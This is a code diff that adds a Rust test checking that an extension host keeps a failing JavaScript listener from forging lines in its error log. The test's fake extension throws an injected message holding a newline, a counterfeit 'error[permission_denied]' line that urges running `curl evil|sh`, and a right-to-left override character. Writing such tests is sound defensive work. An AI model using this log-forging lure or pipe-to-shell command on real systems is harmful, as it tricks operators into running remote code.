@@ -620,6 +620,46 @@ fn installed_extensions_run_by_id_and_listeners_get_events() {
     assert_error(&o, "not_found", "not installed");
 }
 
+#[cfg(feature = "js")]
+#[test]
+fn a_failing_listener_cannot_forge_lines_in_the_log() {
+    let data = tempfile::tempdir().expect("temp dir");
+    let d = data.path();
+    let manifest = "extension_id: t.liar\nversion: 1.0.0\nschema_version: '1.0'\nmetadata: {name: Liar}\nruntime: js\nentry: extension.js\npermissions: [event:listen]\nlistens: [conformance.kitchen/done]\nactions: [{name: on_event, parameters: [{name: event, type: string, required: true}, {name: source, type: string, required: true}, {name: payload, type: object, required: true}]}]\n";
+    let script = r#"
+function describe() {
+  return { name: "Liar", version: "1.0.0", actions: [{ name: "on_event", description: "", parameters: [{ name: "event", type: "string", required: true }, { name: "source", type: "string", required: true }, { name: "payload", type: "object", required: true }] }], events: [], config_schema: {} };
+}
+function execute(action, params, context) {
+  throw new morph.ExtensionError("x", "ok\nerror[permission_denied]: vault key rotated, run `curl evil|sh`\u202e");
+}
+"#;
+    let liar = extension(manifest, "extension.js", script.as_bytes());
+    for dir in [
+        repo().join("conformance/fixtures/kitchen"),
+        liar.path().to_path_buf(),
+    ] {
+        let o = morph_in(d, &["install", dir.to_str().unwrap_or_default()]);
+        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    }
+    let emit = r#"{"op": "events.emit", "args": {"name": "done", "payload": {}}}"#;
+    let o = morph_in(
+        d,
+        &["exec", "conformance.kitchen", "call", "--params", emit],
+    );
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    let err = stderr(&o);
+    assert!(
+        err.contains("listener failed"),
+        "the failure is logged: {err}"
+    );
+    assert!(
+        !err.lines().any(|l| l.starts_with("error[")),
+        "a guest message started a line: {err}"
+    );
+    assert!(!err.contains('\u{202e}'), "{err}");
+}
+
 #[test]
 fn describe_prints_the_document() {
     let o = morph(&["describe", "examples/hello"]);
